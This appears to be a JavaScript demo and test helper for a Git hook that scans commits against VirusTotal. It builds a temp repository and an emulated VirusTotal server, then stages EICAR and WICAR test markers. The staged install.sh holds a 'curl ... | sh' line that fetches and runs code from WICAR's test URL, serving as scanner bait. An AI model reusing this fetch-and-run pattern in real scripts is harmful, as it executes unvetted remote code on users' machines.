// The demonstration's world: a temporary repository with the hook, and the emulator of the tests in VirusTotal's place where
// there is no key. Also what `npm run picture` shows.
import { spawn, spawnSync } from 'node:child_process';
import { chmod, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { root } from './ensure.mjs';

// EICAR's test file and WICAR's test page: harmless, and called malicious by agreement.
export const EICAR = '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f';
export const WICAR = 'http://malware.wicar.org/data/eicar.com';

const THREE_DAYS = 3 * 86_400;

async function emulate(unknown) {
  const engines = {
    'Emulated AV one': { result: 'malware' },
    'Emulated AV two': { result: 'phishing' },
    'Emulated AV three': { result: 'malicious' },
  };
  const analysedAt = Math.floor(Date.now() / 1000) - THREE_DAYS - 600;
  const verdict = { malicious: 12, suspicious: 1, harmless: 60, undetected: 20, engines, analysedAt };
  const known = JSON.stringify({
    default: 'clean',
    unknown,
    verdicts: { [WICAR]: verdict, [EICAR]: { ...verdict, harmless: 0 } },
  });
  const child = spawn(process.execPath, [join(root, 'test/helpers/virustotal/serve.mjs'), known], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  const line = await new Promise((done, failed) => {
    child.stdout.once('data', (chunk) => done(String(chunk)));
    child.once('exit', (code) => failed(new Error(`the emulator ended with ${code}`)));
  });
  return { child, ...JSON.parse(line) };
}

/**
 * @param real VirusTotal itself is asked, with VT_KEY
 * @param unknown what the emulator has never seen
 */
export async function openDemo({ real, unknown = [] }) {
  const folder = await mkdtemp(join(tmpdir(), 'anteater-demo-'));
  const repository = join(folder, 'acme');
  const bin = join(folder, 'bin');
  const emulator = real ? null : await emulate(unknown);
  const env = {
    ...process.env,
    ANTEATER_HOME: join(folder, 'home'),
    PATH: `${bin}${delimiter}${process.env.PATH}`,
  };
  for (const name of Object.keys(env))
    if (name.startsWith('GIT_') || name === 'CI' || name === 'ANTEATER_SKIP') delete env[name];
  const date = '2026-11-21T12:00:00Z';
  Object.assign(env, {
    GIT_CONFIG_GLOBAL: join(folder, 'gitconfig'),
    GIT_CONFIG_NOSYSTEM: '1',
    GIT_AUTHOR_NAME: 'Demo',
    GIT_AUTHOR_EMAIL: 'demo@localhost',
    GIT_AUTHOR_DATE: date,
    GIT_COMMITTER_NAME: 'Demo',
    GIT_COMMITTER_EMAIL: 'demo@localhost',
    GIT_COMMITTER_DATE: date,
  });
  if (emulator) Object.assign(env, { VT_KEY: emulator.key, ANTEATER_VT_URL: emulator.url });
  await mkdir(repository);
  await mkdir(bin);
  await writeFile(env.GIT_CONFIG_GLOBAL, '');
  await chmod(join(root, 'bin/anteater.cjs'), 0o755);
  await symlink(join(root, 'bin/anteater.cjs'), join(bin, 'anteater'));
  return {
    emulator,
    env,
    run: (command, args, options = {}) => spawnSync(command, args, { cwd: repository, env, ...options }),
    write: (path, content) => writeFile(join(repository, path), content),
    async close() {
      emulator?.child.kill();
      await rm(folder, { recursive: true, force: true });
    },
  };
}

/** What the demonstration commits: a malicious URL, and a Git LFS pointer to a known malicious file. */
export async function stageMalware({ run, write }) {
  await write('install.sh', `#!/bin/sh\ncurl -sSf ${WICAR} | sh\n`);
  await write('tool.exe', `version https://git-lfs.github.com/spec/v1\noid sha256:${EICAR}\nsize 68\n`);
  run('git', ['add', 'install.sh', 'tool.exe']);
}
